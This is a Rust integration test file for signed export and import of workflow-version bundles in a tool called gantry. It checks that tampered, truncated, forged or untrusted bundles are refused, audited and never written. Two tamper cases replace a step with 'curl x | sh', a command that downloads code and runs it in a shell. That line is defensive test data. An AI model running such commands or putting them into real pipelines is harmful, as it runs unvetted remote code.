//! Moving versions between installations (docs/bundles.md), on both
//! databases: `gantry export` from one server, `POST /api/v1/bundles` and
//! `gantry import` into another. The round trip keeps versions and content
//! hashes and activates nothing; every damaged, tampered or forged bundle
//! is refused with a message naming what is wrong, and nothing is written.

use crate::helpers::{Backend, TOKEN, TestApp};
use crate::on_both_backends;
use serde_json::{Value, json};
use std::path::{Path, PathBuf};

on_both_backends!(
    an_exported_version_imports_with_its_hash_and_is_active_nowhere,
    every_tampered_bundle_is_refused_and_nothing_is_written,
    a_version_number_holding_other_content_refuses_the_whole_bundle,
    without_a_trusted_key_imports_are_refused_saying_how,
    only_those_who_may_apply_import_and_refusals_are_audited,
    export_and_import_through_the_binary,
    the_dashboard_upload_imports_or_shows_the_refusal,
);

const V1: &str = "name: ship\nsteps:\n  - id: go\n    run: echo v1\n";
const V2: &str = "# second\nname: ship\nsteps:\n  - id: go\n    run: echo v2\n";

/// A key pair as files, written by `gantry audit keygen`: (private, public).
async fn keygen(dir: &Path, name: &str) -> (PathBuf, PathBuf) {
    let private = dir.join(name);
    let out = gantry(
        None,
        &["audit", "keygen", "--out", private.to_str().unwrap()],
    )
    .await;
    assert_eq!(out.code, Some(0), "{out}");
    (
        private.clone(),
        PathBuf::from(format!("{}.pub", private.display())),
    )
}

struct Out {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl std::fmt::Display for Out {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "exit {:?}\n--- stdout\n{}--- stderr\n{}",
            self.code, self.stdout, self.stderr
        )
    }
}

/// Runs the `gantry` binary, against `app` with the bootstrap token.
async fn gantry(app: Option<&TestApp>, args: &[&str]) -> Out {
    let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_gantry"));
    cmd.args(args).env("GANTRY_TOKEN", TOKEN);
    if let Some(app) = app {
        cmd.env("GANTRY_URL", app.url(""));
    }
    let out = cmd.output().await.expect("run gantry");
    Out {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// `gantry export` of `workflow` (one environment's version, or all).
async fn export(app: &TestApp, key: &Path, env: Option<&str>) -> String {
    let mut args = vec![
        "export",
        "--workflow",
        "ship",
        "--signing-key",
        key.to_str().unwrap(),
    ];
    if let Some(env) = env {
        args.extend(["--env", env]);
    }
    let out = gantry(Some(app), &args).await;
    assert_eq!(out.code, Some(0), "{out}");
    out.stdout
}

/// `POST /api/v1/bundles` with `text` as the body, as the bootstrap token.
async fn upload(app: &TestApp, text: &str) -> (u16, Value) {
    let resp = app
        .client
        .post(app.url("/api/v1/bundles"))
        .bearer_auth(TOKEN)
        .header("content-type", "application/json")
        .body(text.to_owned())
        .send()
        .await
        .expect("upload");
    let status = resp.status().as_u16();
    (status, resp.json().await.expect("JSON answer"))
}

async fn apply(app: &TestApp, yaml: &str) {
    let (status, body) = app.apply(yaml).await;
    assert!(status == 201 || status == 200, "apply: {status} {body}");
}

/// The exporting installation: v1 promoted to stage, v2 active in dev.
async fn exporter(backend: Backend) -> TestApp {
    let app = TestApp::spawn_on(backend, &["--dev"]).await;
    apply(&app, V1).await;
    let operator = app.person("operator").await;
    let (status, body) = operator
        .post(
            "/workflows/ship/promotions",
            json!({"to_environment": "stage", "reason": "dev runs were green"}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["outcome"], "promoted", "{body}");
    apply(&app, V2).await;
    app
}

/// A receiving installation trusting `public`.
async fn receiver(backend: Backend, public: &Path) -> TestApp {
    TestApp::spawn_on(
        backend,
        &["--dev", "--bundle-trusted-key", public.to_str().unwrap()],
    )
    .await
}

async fn written(app: &TestApp) -> (i64, i64, i64) {
    (
        app.count_sql("SELECT count(*) FROM workflows").await,
        app.count_sql("SELECT count(*) FROM workflow_versions")
            .await,
        app.count_sql("SELECT count(*) FROM bundle_imports").await,
    )
}

async fn an_exported_version_imports_with_its_hash_and_is_active_nowhere(backend: Backend) {
    let keys = tempfile::tempdir().unwrap();
    let (private, public) = keygen(keys.path(), "bundle.key").await;
    let source = exporter(backend).await;
    let (_, source_detail) = source.api_get("/workflows/ship").await;
    let hashes: Vec<Value> = source_detail["versions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| json!([v["version"], v["content_hash"]]))
        .collect();

    let text = export(&source, &private, Some("stage")).await;
    let bundle: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(bundle["format"], "gantry-bundle");
    assert_eq!(bundle["format_version"], 1);
    assert_eq!(bundle["payload"]["environment"], "stage");
    let versions = bundle["payload"]["versions"].as_array().unwrap();
    assert_eq!(versions.len(), 1, "{bundle}");
    assert_eq!(versions[0]["version"], 1);
    assert_eq!(versions[0]["source"], V1, "the text as applied");
    // The rows that brought v1 to stage: its apply in dev, its promotion.
    let ledger = bundle["payload"]["ledger"].as_array().unwrap();
    let moves: Vec<(&str, &str)> = ledger
        .iter()
        .map(|r| {
            (
                r["environment"].as_str().unwrap(),
                r["kind"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        moves,
        [("dev", "apply"), ("stage", "promotion")],
        "{bundle}"
    );

    let target = receiver(backend, &public).await;
    let (status, body) = upload(&target, &text).await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["workflow"], "ship");
    assert_eq!(body["versions"][0]["created"], true, "{body}");
    assert_eq!(body["ledger_rows"], 2);
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("not active anywhere"),
        "{body}"
    );
    let signer = bundle["signature"]["key_id"].as_str().unwrap();
    assert_eq!(body["signer_key"], signer);

    let (_, detail) = target.api_get("/workflows/ship").await;
    assert_eq!(detail["versions"].as_array().unwrap().len(), 1, "{detail}");
    assert_eq!(
        json!([
            detail["versions"][0]["version"],
            detail["versions"][0]["content_hash"]
        ]),
        hashes[1],
        "same number and hash as v1 over there"
    );
    assert_eq!(detail["active"], json!([]), "active nowhere: {detail}");
    assert_eq!(detail["source"], V1);
    assert_eq!(
        target.count_sql("SELECT count(*) FROM deployments").await,
        0,
        "no ledger row here: nothing moved"
    );
    // Provenance: who signed, where from, the exporter's ledger rows.
    assert_eq!(
        target
            .scalar_text("SELECT signer_key FROM bundle_imports WHERE version = 1")
            .await,
        signer
    );
    let rows: Vec<Value> = serde_json::from_str(
        &target
            .scalar_text("SELECT source_ledger FROM bundle_imports WHERE version = 1")
            .await,
    )
    .unwrap();
    assert_eq!(rows.len(), 2);
    let (_, audit) = target.api_get("/audit?action=bundle.import").await;
    let record = &audit["records"][0];
    assert_eq!(record["outcome"], "succeeded", "{audit}");
    assert_eq!(record["resource"], "workflow/ship");
    assert_eq!(record["details"]["signer_key"], signer);
    assert_eq!(record["details"]["exported_from"], source.url(""));
    assert_eq!(record["details"]["created"], json!([1]));

    // Again: idempotent, reported as present.
    let (status, body) = upload(&target, &text).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["versions"][0]["created"], false);
    assert_eq!(body["versions"][0]["present_as"], 1);
    assert_eq!(written(&target).await, (1, 1, 1));

    // Every version: v1 is there already, v2 arrives.
    let all = export(&source, &private, None).await;
    let (status, body) = upload(&target, &all).await;
    assert_eq!(status, 201, "{body}");
    let outcome: Vec<(u64, bool)> = body["versions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| {
            (
                v["version"].as_u64().unwrap(),
                v["created"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(outcome, [(1, false), (2, true)], "{body}");
    let (_, detail) = target.api_get("/workflows/ship").await;
    let here: Vec<Value> = detail["versions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| json!([v["version"], v["content_hash"]]))
        .collect();
    assert_eq!(here, hashes, "the same versions and hashes");
    assert_eq!(detail["active"], json!([]));

    // Applying an imported version's source is how it enters the first
    // environment here; from there it is promoted like any other.
    let (status, body) = target.apply(V2).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["version"], 2);
    assert_eq!(body["activated_in"], "dev", "{body}");
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("now active in dev"),
        "{body}"
    );
    let (_, detail) = target.api_get("/workflows/ship").await;
    assert_eq!(detail["active"][0]["version"], 2, "{detail}");
    assert_eq!(
        target.count_sql("SELECT count(*) FROM deployments").await,
        1
    );
    // Once active, applying it again changes nothing, as for any version.
    let (status, body) = target.apply(V2).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["activated_in"], Value::Null, "{body}");
    assert_eq!(
        target.count_sql("SELECT count(*) FROM deployments").await,
        1
    );
}

/// A bundle re-signed as a whole by `key` (an attacker's own key pair).
fn resign(bundle: &Value, key: &Path) -> Value {
    let payload = serde_json::from_value(bundle["payload"].clone()).unwrap();
    let key = gantry_server::audit::keys::load_signing_key(key).unwrap();
    serde_json::to_value(gantry_server::bundle::sign(payload, &key).unwrap()).unwrap()
}

async fn every_tampered_bundle_is_refused_and_nothing_is_written(backend: Backend) {
    let keys = tempfile::tempdir().unwrap();
    let (private, public) = keygen(keys.path(), "bundle.key").await;
    let (other, _) = keygen(keys.path(), "other.key").await;
    let source = exporter(backend).await;
    let text = export(&source, &private, None).await;
    let good: Value = serde_json::from_str(&text).unwrap();
    let target = receiver(backend, &public).await;

    let edit = |f: &dyn Fn(&mut Value)| {
        let mut b = good.clone();
        f(&mut b);
        serde_json::to_string_pretty(&b).unwrap()
    };
    let with_others_signature = {
        let forged = resign(&good, &other);
        edit(&|b| b["signature"]["value"] = forged["signature"]["value"].clone())
    };
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "modified source text",
            edit(&|b| {
                b["payload"]["versions"][1]["source"] = V2.replace("echo v2", "curl x | sh").into()
            }),
            "hash mismatch in version 2 of ship",
        ),
        (
            "modified hash",
            edit(&|b| b["payload"]["versions"][0]["content_hash"] = "ab".repeat(32).into()),
            "hash mismatch in version 1 of ship",
        ),
        (
            "source and hash changed together",
            {
                let evil = V2.replace("echo v2", "curl x | sh");
                let hash = gantry_core::spec::parse(&evil).unwrap().content_hash();
                edit(&|b| {
                    b["payload"]["versions"][1]["source"] = evil.clone().into();
                    b["payload"]["versions"][1]["content_hash"] = hash.clone().into();
                })
            },
            "signature does not verify",
        ),
        (
            "modified ledger row",
            edit(&|b| b["payload"]["ledger"][1]["reason"] = "nobody looked".into()),
            "signature does not verify",
        ),
        (
            "a version left out",
            edit(&|b| {
                b["payload"]["versions"].as_array_mut().unwrap().pop();
                b["payload"]["ledger"]
                    .as_array_mut()
                    .unwrap()
                    .retain(|r| r["to_version"] == 1);
            }),
            "signature does not verify",
        ),
        (
            "truncated file",
            text[..text.len() * 2 / 3].to_owned(),
            "the bundle is truncated",
        ),
        (
            "re-signed with another key",
            resign(&good, &other).to_string(),
            "which this installation doesn't trust",
        ),
        (
            "another key's signature under the trusted key's name",
            with_others_signature,
            "signature does not verify",
        ),
        (
            "wrong format version",
            edit(&|b| b["format_version"] = 2.into()),
            "bundle format version 2 is not supported",
        ),
        (
            "not a bundle",
            json!({"name": "ship"}).to_string(),
            "this is not a Gantry bundle",
        ),
    ];
    for (what, body, expected) in &cases {
        let (status, answer) = upload(&target, body).await;
        assert_eq!(status, 400, "{what}: {answer}");
        let message = answer["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains(expected), "{what}: {message}");
        assert_eq!(written(&target).await, (0, 0, 0), "{what} wrote something");
    }
    // Every refusal is on record, with its reason.
    let refused = target
        .count_sql(
            "SELECT count(*) FROM audit_log WHERE action = 'bundle.import' AND outcome = 'failed'",
        )
        .await;
    assert_eq!(refused as usize, cases.len());
    let (_, audit) = target.api_get("/audit?action=bundle.import").await;
    let reasons: Vec<&str> = audit["records"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["details"]["refusal"].as_str())
        .collect();
    for reason in ["hash_mismatch", "bad_signature", "truncated", "unknown_key"] {
        assert!(reasons.contains(&reason), "{reason} in {reasons:?}");
    }
    // The untouched bundle still imports.
    let (status, body) = upload(&target, &text).await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(written(&target).await, (1, 2, 2));
}

async fn a_version_number_holding_other_content_refuses_the_whole_bundle(backend: Backend) {
    let keys = tempfile::tempdir().unwrap();
    let (private, public) = keygen(keys.path(), "bundle.key").await;
    let source = exporter(backend).await;
    let text = export(&source, &private, None).await;
    let target = receiver(backend, &public).await;
    // Version 2 here is other content: v1 is identical, v2 not.
    apply(&target, V1).await;
    apply(
        &target,
        "name: ship\nsteps:\n  - id: go\n    run: echo local\n",
    )
    .await;
    let (status, body) = upload(&target, &text).await;
    assert_eq!(status, 409, "{body}");
    let message = body["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("version 2 of ship already exists here with different content"),
        "{message}"
    );
    assert!(message.contains("nothing was imported"), "{message}");
    assert_eq!(written(&target).await, (1, 2, 0));
}

async fn without_a_trusted_key_imports_are_refused_saying_how(backend: Backend) {
    let keys = tempfile::tempdir().unwrap();
    let (private, _) = keygen(keys.path(), "bundle.key").await;
    let source = exporter(backend).await;
    let text = export(&source, &private, Some("dev")).await;
    let target = TestApp::spawn_on(backend, &["--dev"]).await;
    let (status, body) = upload(&target, &text).await;
    assert_eq!(status, 409, "{body}");
    let message = body["error"]["message"].as_str().unwrap();
    assert!(message.contains("--bundle-trusted-key"), "{message}");
    assert!(message.contains("GANTRY_BUNDLE_TRUSTED_KEYS"), "{message}");
    assert_eq!(written(&target).await, (0, 0, 0));
}

async fn only_those_who_may_apply_import_and_refusals_are_audited(backend: Backend) {
    let keys = tempfile::tempdir().unwrap();
    let (private, public) = keygen(keys.path(), "bundle.key").await;
    let source = exporter(backend).await;
    let text = export(&source, &private, Some("dev")).await;
    let bundle: Value = serde_json::from_str(&text).unwrap();
    let target = receiver(backend, &public).await;
    for who in ["viewer", "operator", "approver"] {
        let person = target.person(who).await;
        let (status, body) = person.post("/bundles", bundle.clone()).await;
        assert_eq!(status, 403, "{who}: {body}");
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap()
                .contains("admin role in dev"),
            "{body}"
        );
    }
    assert_eq!(written(&target).await, (0, 0, 0));
    let denied = target
        .count_sql(
            "SELECT count(*) FROM audit_log WHERE action = 'bundle.import' AND outcome = 'denied'",
        )
        .await;
    assert_eq!(denied, 3);
    let admin = target.person("admin").await;
    let (status, body) = admin.post("/bundles", bundle).await;
    assert_eq!(status, 201, "{body}");
    // The importer is the version's author here (four eyes: not its approver).
    assert_eq!(
        target
            .scalar_text("SELECT created_by FROM workflow_versions")
            .await,
        target
            .scalar_text("SELECT imported_by FROM bundle_imports")
            .await,
    );
    let anonymous = target
        .client
        .post(target.url("/api/v1/bundles"))
        .body(text)
        .send()
        .await
        .unwrap();
    assert_eq!(anonymous.status(), 401);
}

async fn export_and_import_through_the_binary(backend: Backend) {
    let keys = tempfile::tempdir().unwrap();
    let (private, public) = keygen(keys.path(), "bundle.key").await;
    let (_, other_public) = keygen(keys.path(), "other.key").await;
    let source = exporter(backend).await;
    let target = receiver(backend, &public).await;
    let file = keys.path().join("ship.bundle.json");
    std::fs::write(&file, export(&source, &private, Some("stage")).await).unwrap();
    let file = file.to_str().unwrap();

    // Nothing active in prod: said, exit 1, nothing written.
    let out = gantry(
        Some(&source),
        &[
            "export",
            "--workflow",
            "ship",
            "--env",
            "prod",
            "--signing-key",
            private.to_str().unwrap(),
        ],
    )
    .await;
    assert_eq!(out.code, Some(1), "{out}");
    assert!(
        out.stderr
            .contains("ship has no active version in prod (active: v2 in dev, v1 in stage)"),
        "{out}"
    );

    // The wrong public key fails offline, before any upload.
    let out = gantry(
        Some(&target),
        &[
            "import",
            file,
            "--public-key",
            other_public.to_str().unwrap(),
        ],
    )
    .await;
    assert_eq!(out.code, Some(1), "{out}");
    assert!(out.stderr.contains("doesn't trust"), "{out}");
    assert!(out.stderr.contains("--public-key"), "{out}");
    // A tampered copy fails offline naming the version.
    let mut tampered: Value =
        serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
    tampered["payload"]["versions"][0]["source"] = V1.replace("v1", "v9").into();
    let bad = keys.path().join("tampered.json");
    std::fs::write(&bad, tampered.to_string()).unwrap();
    let out = gantry(
        Some(&target),
        &[
            "import",
            bad.to_str().unwrap(),
            "--public-key",
            public.to_str().unwrap(),
        ],
    )
    .await;
    assert_eq!(out.code, Some(1), "{out}");
    assert!(
        out.stderr.contains("hash mismatch in version 1 of ship"),
        "{out}"
    );
    assert_eq!(written(&target).await, (0, 0, 0));

    let out = gantry(
        Some(&target),
        &["import", file, "--public-key", public.to_str().unwrap()],
    )
    .await;
    assert_eq!(out.code, Some(0), "{out}");
    assert!(out.stdout.contains("verified"), "{out}");
    assert!(out.stdout.contains("version 1: imported"), "{out}");
    let out = gantry(
        Some(&target),
        &["import", file, "--public-key", public.to_str().unwrap()],
    )
    .await;
    assert_eq!(out.code, Some(0), "{out}");
    assert!(out.stdout.contains("version 1: already present"), "{out}");
    assert_eq!(written(&target).await, (1, 1, 1));
}

/// A file upload as a browser without JavaScript sends it.
async fn upload_page(app: &TestApp, file_name: &str, text: &str) -> (u16, String) {
    let boundary = "----gantryTestBoundary7MA4YWxk";
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"bundle\"; filename=\"{file_name}\"\r\n\
         Content-Type: application/json\r\n\r\n{text}\r\n--{boundary}--\r\n"
    );
    let resp = app
        .client
        .post(app.url("/workflows"))
        .header(
            "content-type",
            format!("multipart/form-data; boundary={boundary}"),
        )
        .header("accept", "text/html")
        .body(body)
        .send()
        .await
        .expect("upload form");
    let status = resp.status().as_u16();
    (status, resp.text().await.unwrap())
}

async fn the_dashboard_upload_imports_or_shows_the_refusal(backend: Backend) {
    let keys = tempfile::tempdir().unwrap();
    let (private, public) = keygen(keys.path(), "bundle.key").await;
    let source = exporter(backend).await;
    let text = export(&source, &private, None).await;
    let target = receiver(backend, &public).await;

    // A viewer sees no upload form, and a post is refused.
    target.sign_in_as("viewer").await;
    let (status, page) = target.get_html("/workflows").await;
    assert_eq!(status, 200);
    assert!(!page.contains("Import a bundle"), "{page}");
    let (status, page) = upload_page(&target, "ship.json", &text).await;
    assert_eq!(status, 403, "{page}");
    assert!(page.contains("admin role in dev"), "{page}");
    assert_eq!(written(&target).await, (0, 0, 0));
    target.sign_out().await;

    target.sign_in_as("admin").await;
    let (status, page) = target.get_html("/workflows").await;
    assert_eq!(status, 200);
    assert!(page.contains("Import a bundle"), "{page}");
    assert!(page.contains("multipart/form-data"), "{page}");

    let tampered = text.replacen("echo v1", "echo v9", 1);
    let (status, page) = upload_page(&target, "ship.json", &tampered).await;
    assert_eq!(status, 400, "{page}");
    assert!(page.contains("ship.json was refused"), "{page}");
    assert!(
        page.contains("hash mismatch in version 1 of ship"),
        "{page}"
    );
    assert!(page.contains("Nothing was imported."), "{page}");
    assert_eq!(written(&target).await, (0, 0, 0));

    let (status, page) = upload_page(&target, "ship.json", &text).await;
    assert_eq!(status, 200, "{page}");
    assert!(page.contains("Bundle imported"), "{page}");
    assert!(
        page.contains("version 2: imported, not active anywhere"),
        "{page}"
    );
    assert_eq!(written(&target).await, (1, 2, 2));
}
